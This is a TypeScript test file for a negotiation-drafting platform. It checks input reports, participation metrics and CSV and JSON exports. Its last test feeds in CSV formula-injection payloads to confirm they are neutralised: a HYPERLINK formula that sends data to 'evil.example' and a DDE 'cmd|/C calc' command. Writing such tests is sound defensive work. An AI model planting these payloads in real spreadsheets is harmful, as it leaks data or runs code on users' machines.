import type { RevisionSummary } from "@plenary/protocol";
import type { Metrics, ReportResponse } from "@plenary/report";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { demoDraft } from "../src/demo/demo-draft.ts";
import { DEMO_ACCOUNTS } from "../src/demo/seed.ts";
import { EditorClient, positionIn } from "./editor-client.ts";
import { getJSON, testServer } from "./harness.ts";

const DRAFT = demoDraft.id;
const ops = demoDraft.doc.content.filter((n) => n.attrs?.kind === "op").map((n) => n.attrs!.id as string);
const NORWAY = { email: "norway@test.plenary", password: "norway-delegate", displayName: "Ingrid Berg" };

/** Parses CSV as RFC 4180 writes it (quoted fields may hold commas, quotes and line breaks). */
function parseCSV(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

describe("the input report and participation metrics of a seeded negotiation", () => {
  let t: Awaited<ReturnType<typeof testServer>>;
  const clients: EditorClient[] = [];
  let rev1: RevisionSummary;
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    t = await testServer();
    const url = t.server.url;
    await t.server.accounts.createAccount({
      ...NORWAY,
      partyId: "party-norway",
      processId: "demo-review",
      role: "delegate",
    });
    const open = async (account: { email: string; password: string }) => {
      const client = await EditorClient.open(url, account, DRAFT);
      clients.push(client);
      return client;
    };
    const account = (email: string) => DEMO_ACCOUNTS.find((a) => a.email.startsWith(email))!;
    const facilitator = await open(account("facilitator"));
    const kenya = await open(account("kenya"));
    const brazil = await open(account("brazil"));
    const observer = await open(account("opennet"));
    const norway = await open(NORWAY);
    const suggest = async (client: EditorClient, name: string, blockId: string, text: string) => {
      client.suggest((s) => s.tr.insertText(text, positionIn(s.doc, blockId)));
      await client.collab.acknowledged();
      const { body } = await getJSON<{ suggestions: { id: string; inserted: string }[] }>(
        `${url}/api/drafts/${DRAFT}/suggestions`,
      );
      ids[name] = body.suggestions.find((s) => s.inserted === text)!.id;
    };
    const path = (name: string) => `/api/drafts/${DRAFT}/suggestions/${ids[name]}`;

    await facilitator.http.post(`/api/drafts/${DRAFT}/revisions`, {});
    await suggest(kenya, "A", ops[0]!, " with adequate financing");
    await brazil.http.request("POST", `${path("A")}/support`);
    await suggest(brazil, "B", ops[1]!, " on a voluntary basis");
    await suggest(observer, "C", ops[2]!, ", including civil society,");
    await kenya.http.request("POST", `${path("C")}/support`);
    await suggest(norway, "D", ops[3]!, " as appropriate");
    await facilitator.http.post(`${path("A")}/decision`, { decision: "accept" });
    await facilitator.http.post(`${path("B")}/decision`, { decision: "reject", reason: "Weakens the commitment." });
    await norway.http.post(`${path("D")}/withdraw`, {});
    rev1 = (await facilitator.http.post<RevisionSummary>(`/api/drafts/${DRAFT}/revisions`, {})).body;
    await suggest(kenya, "E", ops[4]!, " by 2030");
  });
  afterAll(async () => {
    for (const client of clients) client.close();
    await t.stop();
  });

  const report = async (revision: string) =>
    (await getJSON<ReportResponse>(`${t.server.url}/api/drafts/${DRAFT}/report?revision=${revision}`)).body;

  it("lists every proposal made for Rev.1 with its party, groups, text, supporters and disposition", async () => {
    const { rows, revision } = await report(rev1.id);
    expect(revision.name).toBe("Rev.1");
    expect(
      rows.map((r) => [
        r.id,
        r.paragraphs,
        r.party.name,
        r.stakeholderGroup,
        r.regionalGroup,
        r.hemisphere,
        r.inserted,
        r.supporters.map((p) => p.name),
        r.disposition,
        r.reason,
      ]),
    ).toEqual([
      [
        ids.A,
        "OP 1",
        "Kenya",
        "government",
        "african",
        "south",
        " with adequate financing",
        ["Brazil"],
        "accepted",
        null,
      ],
      [
        ids.B,
        "OP 2",
        "Brazil",
        "government",
        "grulac",
        "south",
        " on a voluntary basis",
        [],
        "rejected",
        "Weakens the commitment.",
      ],
      [
        ids.C,
        "OP 3",
        "Open Networks Alliance",
        "civil-society",
        null,
        "south",
        ", including civil society,",
        ["Kenya"],
        "pending",
        null,
      ],
      [
        ids.D,
        "OP 4",
        "Norway",
        "government",
        "weog",
        "north",
        " as appropriate",
        [],
        "withdrawn",
        "Withdrawn by the author.",
      ],
    ]);
    expect(rows[0]?.decidedBy).toBe(DEMO_ACCOUNTS[0].displayName);
  });

  it("measures participation exactly, overall and by stakeholder group, regional group and hemisphere", async () => {
    const { metrics } = await report(rev1.id);
    const figures = (parties: number, made: number, supported: number, accepted: number, rejected: number) => ({
      parties,
      made,
      supported,
      accepted,
      rejected,
      acceptanceRate: accepted + rejected === 0 ? null : accepted / (accepted + rejected),
    });
    expect(metrics).toEqual({
      total: figures(4, 4, 2, 1, 1),
      byStakeholderGroup: { "civil-society": figures(1, 1, 1, 0, 0), government: figures(3, 3, 1, 1, 1) },
      byRegionalGroup: {
        african: figures(1, 1, 1, 1, 0),
        grulac: figures(1, 1, 0, 0, 1),
        none: figures(1, 1, 1, 0, 0),
        weog: figures(1, 1, 0, 0, 0),
      },
      byHemisphere: { south: figures(3, 3, 2, 1, 1), north: figures(1, 1, 0, 0, 0), unknown: figures(0, 0, 0, 0, 0) },
    } satisfies Metrics);
  });

  it("reports the live draft since the last revision", async () => {
    const { rows, period } = await report("live");
    expect(period.from).toBe(rev1.publishedAt);
    expect(rows.map((r) => [r.id, r.disposition])).toEqual([[ids.E, "pending"]]);
  });

  it("gives the same rows as CSV, and as a JSON download", async () => {
    const { rows } = await report(rev1.id);
    const csv = await fetch(`${t.server.url}/api/drafts/${DRAFT}/report?revision=${rev1.id}&format=csv`);
    expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(csv.headers.get("content-disposition")).toMatch(/attachment; filename=".*Rev\.1-input-report\.csv"/);
    const [header, ...records] = parseCSV(await csv.text());
    expect(records).toHaveLength(rows.length);
    const column = (name: string) => header!.indexOf(name);
    records.forEach((record, i) => {
      const row = rows[i]!;
      expect(record[column("id")]).toBe(row.id);
      expect(record[column("party")]).toBe(row.party.name);
      expect(record[column("inserted")]).toBe(row.inserted);
      expect(record[column("supporters")]).toBe(row.supporters.map((p) => p.name).join("; "));
      expect(record[column("disposition")]).toBe(row.disposition);
      expect(record[column("reason")]).toBe(row.reason ?? "");
    });
    const json = await fetch(`${t.server.url}/api/drafts/${DRAFT}/report?revision=${rev1.id}&download=1`);
    expect(json.headers.get("content-disposition")).toMatch(/\.json"$/);
    expect(((await json.json()) as ReportResponse).rows).toEqual(rows);
  });

  it("measures the whole process, readable without an account", async () => {
    const { body, status } = await getJSON<{ rows: number; metrics: Metrics }>(
      `${t.server.url}/api/processes/demo-review/metrics`,
    );
    expect(status).toBe(200);
    expect(body.rows).toBe(5);
    expect(body.metrics.total).toMatchObject({ made: 5, accepted: 1, rejected: 1 });
  });
});

describe("the report as CSV, when what people typed looks like a formula", () => {
  it("neutralises every cell a spreadsheet would run, whoever typed it", async () => {
    const t = await testServer();
    const clients: EditorClient[] = [];
    try {
      const account = (email: string) => DEMO_ACCOUNTS.find((a) => a.email.startsWith(email))!;
      const facilitator = await EditorClient.open(t.server.url, account("facilitator"), DRAFT);
      const kenya = await EditorClient.open(t.server.url, account("kenya"), DRAFT);
      clients.push(facilitator, kenya);
      const formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3"];
      for (const [i, text] of formulas.entries()) {
        kenya.suggest((s) => s.tr.insertText(text, positionIn(s.doc, ops[i]!)));
        await kenya.collab.acknowledged();
      }
      const { body } = await getJSON<{ suggestions: { id: string; inserted: string }[] }>(
        `${t.server.url}/api/drafts/${DRAFT}/suggestions`,
      );
      const first = body.suggestions.find((s) => s.inserted === formulas[0])!;
      await facilitator.http.post(`/api/drafts/${DRAFT}/suggestions/${first.id}/decision`, {
        decision: "reject",
        reason: "@SUM(A1:A9) is not a reason",
      });

      const csv = await fetch(`${t.server.url}/api/drafts/${DRAFT}/report?revision=live&format=csv`);
      const [header, ...records] = parseCSV(await csv.text());
      const inserted = records.map((record) => record[header!.indexOf("inserted")]);
      expect(inserted.sort()).toEqual(formulas.map((formula) => `'${formula}`).sort());
      const reasons = records.map((record) => record[header!.indexOf("reason")]).filter(Boolean);
      expect(reasons).toEqual(["'@SUM(A1:A9) is not a reason"]);
      // No cell of the file starts a formula.
      for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    } finally {
      for (const client of clients) client.close();
      await t.stop();
    }
  });
});
